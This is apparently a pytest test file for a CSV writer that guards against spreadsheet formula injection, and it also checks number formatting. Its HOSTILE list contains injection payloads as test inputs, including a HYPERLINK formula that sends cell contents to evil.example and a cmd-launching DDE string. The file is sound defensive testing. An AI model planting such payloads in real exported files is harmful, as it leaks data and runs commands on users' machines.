import csv

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from landgap.output.csv_tables import escaped, unescaped, write_csv, written

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\t=1",
    "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A", " =1", '"=1', "'=1", "\ufeff=1", "x;=1", 'x\n"=1', "x\t@A",
    "+1",
]  # fmt: skip


def rows(table, path):
    write_csv(table, path)
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_a_formula_wherever_it_stands(text, tmp_path):
    table = pd.DataFrame({text: [text, 1.5]}, index=pd.Index([text, "b"], name=text))
    found = rows(table, tmp_path / "t.csv")
    for cell in (*found[0], *found[1]):
        assert cell == escaped(text) != text
        assert cell[0] not in "=+-@\t\r\n＝＋－＠"
        assert unescaped(cell) == text
    assert found[2] == ["b", "1.5"]
    for line in (tmp_path / "t.csv").read_bytes().decode().replace('"', "").split("\n"):
        # as a spreadsheet reads it that takes semicolons for separators
        assert not any(cell.strip()[:1] in set("=+@＝") for cell in line.split(";"))


@given(st.text(st.sampled_from("a'\"=+-@;\t\r\n ,＝1")))
def test_the_apostrophes_can_be_taken_off_again(text):
    assert unescaped(escaped(text)) == text


@pytest.mark.parametrize(
    "text", ["Halle (Saale)", "'s-Hertogenbosch", "Bad Lauchstädt - Süd", "15002000", "a=b"]
)
def test_harmless_text_is_left_alone(text):
    assert escaped(text) == text


def test_numbers_are_numbers(tmp_path):
    table = pd.DataFrame(
        {
            "ha": [1234567.89, -607.0, -1e-15, np.nan, np.inf],
            "count": [1, -2, 3, 4, 10**15],
            "share": pd.array([0.1, 1e-7, -0.25, None, 123456789.12346], dtype="Float64"),
            "few": pd.array([1, None, 3, 4, 5], dtype="Int64"),
            "half": np.array([0.1, 1e6, 2, 3, 4], dtype="float32"),
        }
    )
    assert [row[1:] for row in rows(table, tmp_path / "t.csv")] == [
        ["ha", "count", "share", "few", "half"],
        ["1234567.89", "1", "0.1", "1", "0.1"],
        ["-607", "-2", "0.0000001", "", "1000000"],
        ["0", "3", "-0.25", "3", "2"],
        ["", "4", "", "4", "3"],
        ["inf", "1000000000000000", "123456789.1235", "5", "4"],
    ]


@given(st.floats(allow_nan=False, allow_infinity=False, min_value=-1e12, max_value=1e12))
def test_no_exponent_no_minus_zero_and_six_digits(number):
    text = written(number)
    assert "e" not in text
    assert text not in {"-0", "-0.0", ""}
    assert float(text) == pytest.approx(number, rel=1e-5, abs=1e-12)


def test_several_keys_and_two_columns_of_one_name(tmp_path):
    index = pd.MultiIndex.from_tuples([("15", "port")], names=["unit_id", None])
    table = pd.DataFrame([[True, 'a "b", c']], index=index, columns=["x", "x"])
    assert rows(table, tmp_path / "t.csv") == [["unit_id", "", "x", "x"], ["15", "port", "True", 'a "b", c']]


def test_a_table_without_rows_keeps_its_head(tmp_path):
    assert rows(pd.DataFrame({"ha": []}), tmp_path / "t.csv") == [["", "ha"]]
